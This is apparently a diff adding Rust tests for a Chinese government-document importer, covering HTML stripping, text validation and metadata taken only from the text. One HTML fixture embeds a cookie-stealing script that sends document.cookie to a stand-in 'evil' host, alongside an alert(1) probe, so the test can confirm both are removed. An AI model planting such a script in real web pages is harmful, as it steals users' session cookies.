@@ -98,6 +98,65 @@ fn covering_notice_is_unit_zero_and_attached_preamble_is_zero_one() {
     );
 }
 
+#[test]
+fn an_html_page_imports_as_its_text_with_nothing_executed() {
+    let page = "<!DOCTYPE html><html><head><title>政府网</title><script>alert(1)</script></head>\
+        <body><div class=nav>首页 | 政策 | 新闻</div>\
+        <h1>中共四川省委 四川省人民政府关于加强区域合作的实施意见</h1>\
+        <p>各市（州）党委和人民政府：</p><p>一、总体要求</p>\
+        <p>（一）指导思想。以&ldquo;一干多支&rdquo;为引领，推动川渝合作。</p>\
+        <script>document.location='http://evil/?'+document.cookie</script></body></html>";
+    let doc = import(page);
+    assert_eq!(doc.title, "关于加强区域合作的实施意见");
+    assert_eq!(doc.issuers, vec!["中共四川省委", "四川省人民政府"]);
+    assert_eq!(doc.jurisdiction.as_deref(), Some("sichuan"));
+    let paths: Vec<&str> = doc.units.iter().map(|u| u.path.as_str()).collect();
+    assert_eq!(paths, vec!["0", "1", "1.1"]);
+    assert!(doc.units[2].text.contains("“一干多支”"));
+    let all: String = doc.units.iter().map(|u| u.text.as_str()).collect();
+    for noise in ["alert", "script", "document", "<", "首页", "&ldquo;"] {
+        assert!(!all.contains(noise), "{noise} left in the text");
+    }
+    let rules: Vec<&str> = doc.removals.iter().map(|r| r.rule.as_str()).collect();
+    assert_eq!(rules, vec!["html-non-text", "site-menu", "html-non-text"]);
+}
+
+#[test]
+fn an_html_page_with_little_text_is_judged_by_its_text() {
+    let markup = format!(
+        "<html><body>{}<p>区域协调发展</p></body></html>",
+        "<div class=\"x\"></div>".repeat(200)
+    );
+    assert!(validate_text(&markup).is_ok());
+    assert!(matches!(
+        validate_text("<html><body><p>only English here</p></body></html>"),
+        Err(ImportError::NotChinese { .. })
+    ));
+}
+
+#[test]
+fn metadata_is_only_what_the_text_states() {
+    // A news lead names the title and issuers but no date or number: none
+    // are invented, the newspaper's issue date is not the document's.
+    let doc = import(
+        "四川日报 2018年11月20日\n本网讯 日前，省委、省政府印发《关于推动区域协同发展的指导意见》，主要内容如下。\n\
+         一、总体要求\n（一）指导思想。坚持协同发展。",
+    );
+    assert_eq!(doc.title, "关于推动区域协同发展的指导意见");
+    assert_eq!(doc.issuers, vec!["省委", "省政府"]);
+    assert_eq!(doc.level, Some(Level::Provincial));
+    assert_eq!(doc.jurisdiction, None);
+    assert_eq!(doc.date, None);
+    assert_eq!(doc.doc_number, None);
+    let title_source = doc
+        .metadata_sources
+        .iter()
+        .find(|s| s.field == "title")
+        .unwrap();
+    assert_eq!(title_source.line, Some(2));
+    assert!(title_source.evidence.contains("主要内容如下"));
+}
+
 mod properties {
     //! Property tests: whatever text comes in, the parsers do not panic and
     //! the structure invariants hold.
